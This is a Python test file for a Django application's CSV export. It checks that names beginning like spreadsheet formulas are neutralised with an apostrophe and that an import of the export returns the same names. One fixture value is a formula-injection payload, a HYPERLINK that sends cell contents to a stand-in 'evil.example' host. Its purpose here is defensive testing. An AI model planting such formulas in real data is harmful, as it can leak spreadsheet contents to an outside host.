"""A name that begins like a formula is exported with an apostrophe, so no spreadsheet runs it,
and imported without it, so export and import still give back the same names
(docs/interchange.md §1)."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kansrijk.core.spreadsheets import FORMULA_STARTS
from kansrijk.core.validators import has_control_characters
from kansrijk.interchange.columns import COLUMN_NAMES
from kansrijk.interchange.exporter import interventions_export
from kansrijk.interchange.parser.files import InterchangeFile
from kansrijk.interventions.models import Intervention
from kansrijk.interventions.tests.factories import make_intervention
from kansrijk.organisations.models import Municipality, Neighbourhood, Region, School
from kansrijk.people.models import YoungPerson
from kansrijk.referrals.models import Referral

from .helpers import run_command

NAMES = {
    "region": "@Regio",
    "municipality": "+Gemeente",
    "school_name": '=HYPERLINK("http://evil.example/?"&A1)',
    "neighbourhood": "-",
    "youth_id": "-Y1",
}


def _names_of_the_file():
    """An intervention whose names all begin like a formula, and a plain "-" for the neighbourhood."""
    region = Region.objects.create(name=NAMES["region"])
    municipality = Municipality.objects.create(name=NAMES["municipality"], region=region)
    school = School.objects.create(brin="12AB", name=NAMES["school_name"], municipality=municipality)
    neighbourhood = Neighbourhood.objects.create(name=NAMES["neighbourhood"], municipality=municipality)
    intervention = make_intervention(status="in_progress", school=school, neighbourhood=neighbourhood)
    YoungPerson.objects.filter(pk=intervention.referral.young_person_id).update(external_id=NAMES["youth_id"])
    return intervention


def _export() -> tuple[str, list[dict[str, str]]]:
    out = io.StringIO()
    interventions_export(out=out)
    return out.getvalue(), list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.django_db
def test_it_writes_a_name_that_begins_like_a_formula_with_an_apostrophe():
    _names_of_the_file()

    text, [row] = _export()

    assert {column: row[column] for column in NAMES} == {column: "'" + name for column, name in NAMES.items()}
    assert not text.startswith("\ufeff")
    assert text.splitlines()[0] == ",".join(COLUMN_NAMES)
    # Dates and codes are as they were.
    assert row["status"] == "in_progress" and row["referral_date"][:2] == "20"


@pytest.mark.django_db
def test_it_imports_its_own_export_with_the_same_names(tmp_path):
    intervention = _names_of_the_file()
    exported = tmp_path / "export.csv"
    assert run_command("export_interventions", "--output", str(exported))[0] == 0

    Intervention.objects.all().delete()
    Referral.objects.all().delete()
    YoungPerson.objects.all().delete()
    School.objects.all().delete()
    Neighbourhood.objects.all().delete()
    code, _out, err = run_command("import_interventions", str(exported))

    assert code == 0, err
    imported = Intervention.objects.select_related(
        "region", "municipality", "school", "neighbourhood", "referral__young_person"
    ).get()
    assert imported.reference == intervention.reference
    assert imported.school is not None and imported.neighbourhood is not None
    assert (
        imported.region.name,
        imported.municipality.name,
        imported.school.name,
        imported.neighbourhood.name,
        imported.referral.young_person.external_id,
    ) == tuple(NAMES.values())


# What a name in Kansrijk can be (one line, no control characters), beginning like a formula or
# with an apostrophe as often as not, with the CSV's own separators and quotes inside.
_TAIL = st.text(
    alphabet=st.sampled_from(list("ab ,;\"'=+-@"))
    | st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp")),
    max_size=30,
)
PLAIN_NAMES = st.tuples(st.sampled_from(["", "'", "''"]), st.sampled_from(["", *"=+-@"]), _TAIL).map(
    lambda parts: "".join(parts).strip()
)


@pytest.mark.django_db
def test_export_then_parse_gives_every_name_back(tmp_path):
    """Whatever the names, the file the export writes reads back as those names."""
    intervention = _names_of_the_file()
    path = tmp_path / "export.csv"

    @settings(max_examples=30, deadline=None)
    @given(
        names=st.fixed_dictionaries(
            # A young person without an external id is exported with a pseudonym instead.
            {column: PLAIN_NAMES.filter(bool) if column == "youth_id" else PLAIN_NAMES for column in NAMES}
        )
    )
    def check(names):
        if any(has_control_characters(name) for name in names.values()):
            return  # the fields refuse such names (core/validators.py)
        Region.objects.filter(pk=intervention.region_id).update(name=names["region"])
        Municipality.objects.filter(pk=intervention.municipality_id).update(name=names["municipality"])
        School.objects.filter(pk=intervention.school_id).update(name=names["school_name"])
        Neighbourhood.objects.filter(pk=intervention.neighbourhood_id).update(name=names["neighbourhood"])
        YoungPerson.objects.filter(pk=intervention.referral.young_person_id).update(
            external_id=names["youth_id"]
        )
        text, [row] = _export()
        path.write_text(text, encoding="utf-8", newline="")

        with InterchangeFile(path) as rows:
            [parsed] = list(rows)

        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
        assert {column: parsed.values[column] for column in NAMES} == names

    check()
